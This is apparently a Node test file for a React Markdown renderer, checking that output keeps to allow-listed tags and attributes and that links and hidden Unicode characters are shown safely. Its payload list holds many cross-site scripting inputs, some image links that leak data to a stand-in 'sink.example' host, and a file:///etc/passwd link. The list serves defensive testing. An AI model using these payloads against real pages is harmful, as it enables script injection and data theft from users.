import assert from 'node:assert/strict'
import { test } from 'node:test'
import '../../test/load-tsx.ts'
import { createElement } from 'react'
import { renderToStaticMarkup } from 'react-dom/server'

const { Markdown, StreamingMarkdown } = await import('./markdown.tsx')
const { ExactText } = await import('./exact-text.tsx')

const html = (text: string): string => renderToStaticMarkup(createElement(Markdown, { text }))

/** All that markdown may become; none of it runs or loads anything, and only links lead anywhere. */
const TAGS = new Set(
  'a blockquote br code del div em h1 h2 h3 h4 h5 h6 hr input li ol p pre section span strong sup table tbody td th thead tr ul'.split(
    ' ',
  ),
)
const ATTRIBUTES = new Set(
  'aria-describedby aria-label checked class data-footnote-backref data-footnote-ref data-footnotes disabled href id rel start style target type'.split(
    ' ',
  ),
)

/** Tags and attributes of the HTML that are not on these lists, our own buttons aside. */
function strange(made: string): string[] {
  const own = made.replace(/<button type="button" aria-label="Copy"[\s\S]*?<\/button>/g, '')
  return [...own.matchAll(/<([a-z][^\s/>]*)((?:[^>"]|"[^"]*")*)>/gi)].flatMap(([, tag = '', rest = '']) => {
    const attributes = [...rest.matchAll(/([^\s="/]+)(?:="([^"]*)")?/g)]
    const wrong = attributes.filter(
      ([, name = '', value = '']) =>
        !ATTRIBUTES.has(name) ||
        (name === 'href' && !/^(?:https?|mailto):/.test(value)) ||
        (name === 'style' && !/^text-align:\w+$/.test(value)),
    )
    return [...(TAGS.has(tag) ? [] : [tag]), ...wrong.map(([whole]) => whole)]
  })
}

const payloads: readonly string[] = [
  '<script>alert(1)</script>',
  '<img src=x onerror=alert(1)>',
  '<svg onload=alert(1)>',
  '<math><mtext><img src=x onerror=alert(1)></mtext></math>',
  '<a href="javascript:alert(1)">x</a>',
  '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
  '<style>@import url(http://sink.example/)</style>',
  '<link rel=prefetch href=http://sink.example/>',
  '<details open ontoggle=alert(1)>',
  '<!--><img src=x onerror=alert(1)>-->',
  '![x](http://sink.example/leak?d=secret)',
  '![x](//sink.example/leak)',
  '![x][ref]\n\n[ref]: http://sink.example/leak',
  '[![x](http://sink.example/a.png)](http://sink.example/b)',
  '![x](data:image/svg+xml,<svg/onload=alert(1)>)',
  '![x](" onerror="alert(1))',
  '[x](javascript:alert(1))',
  '[x](JaVaScRiPt:alert(1))',
  '[x](java\tscript:alert(1))',
  '[x](&#106;avascript:alert(1))',
  '[x](&#x6A;avascript&colon;alert(1))',
  '[x](vbscript:msgbox(1))',
  '[x](data:text/html,<script>alert(1)</script>)',
  '[x](blob:http://127.0.0.1/1)',
  '[x](file:///etc/passwd)',
  '[x](//sink.example)',
  '[x](/api/settings)',
  '[x](#/settings)',
  '[x](http://a.example" onclick="alert(1))',
  '<javascript:alert(1)>',
  '<http://a.example/"onmouseover="alert(1)>',
  '[ref]: javascript:alert(1)\n\n[x][ref]',
  '```html\n<img src=x onerror=alert(1)>\n```',
  '```"><img src=x onerror=alert(1)>\ncode\n```',
  '`<img src=x onerror=alert(1)>`',
  '| <img src=x onerror=alert(1)> |\n| --- |\n| x |',
  '- [ ] <input onfocus=alert(1) autofocus>',
  'x[^1]\n\n[^1]: <img src=x onerror=alert(1)>',
  '# <base href=//sink.example>',
  '> <form action=//sink.example><button>x</button></form>',
]

for (const payload of payloads) {
  test(`[S16] nothing runs and nothing loads: ${JSON.stringify(payload).slice(0, 70)}`, () => {
    assert.deepEqual(strange(html(payload)), [])
  })
}

test('[S16] the lists would notice', () => {
  assert.deepEqual(strange('<p onclick="x">a</p><img src="x"><a href="javascript:x">'), [
    'onclick="x"',
    'img',
    'src="x"',
    'href="javascript:x"',
  ])
})

test('[S16] a link shows its whole address, and opens where nothing is known of this page', () => {
  const made = html('[bank](http://xn--bnk-sna.example/login)')
  assert.match(made, /rel="noopener noreferrer nofollow"/)
  assert.match(made, /target="_blank"/)
  assert.match(made, />bank</)
  assert.match(made, /\(http:\/\/xn--bnk-sna\.example\/login\)/)
  assert.match(html('[x](http://bänk.example/)'), /\(http:\/\/xn--bnk-qla\.example\/\)/)
  assert.equal(html('https://a.example/').match(/a\.example/g)?.length, 2)
})

test('what is harmless is shown as it is meant', () => {
  const made = html('# Title\n\n- one\n- **two**\n\n| a |\n| - |\n| b |\n\n```ts\nlet a = 1\n```')
  for (const part of ['<h1>', '<li>one', '<strong>two', '<td>b', 'let a = 1']) assert.ok(made.includes(part), part)
})

test('[P18] a text too long to be made up is shown as it is', () => {
  const made = html(`# no\n${'x'.repeat(150_000)}`)
  assert.match(made, /^<div[^>]*><pre/)
  assert.ok(made.length < 30_000, `${made.length} characters of it`)
})

test('[P18] a long text is made in slices; the rest stands there as it was written', () => {
  const parts = Array.from({ length: 40 }, (_, at) => `**part ${at}** ${'word '.repeat(100)}`)
  const made = html(parts.join('\n\n'))
  assert.match(made, /<strong>part 0<\/strong>/)
  assert.match(made, /\*\*part 39\*\*/)
  const short = html(parts.slice(0, 20).join('\n\n'))
  assert.match(short, /<strong>part 19<\/strong>/)
})

test('[S16] what is still being written is as harmless', () => {
  for (const payload of payloads) {
    const made = renderToStaticMarkup(createElement(StreamingMarkdown, { text: `${payload}\n\n${payload}` }))
    assert.deepEqual(strange(made), [], payload)
  }
})

test('[S17] what is to be approved is shown to the letter, with its hidden characters by name', () => {
  const made = renderToStaticMarkup(createElement(ExactText, { text: 'cp a\u202eb <b>' }))
  assert.match(made, /<bdo dir="ltr"/)
  assert.match(made, /<mark[^>]*>U\+202E<\/mark>/)
  assert.ok(made.includes('&lt;b&gt;') && !made.includes('\u202e'))
})
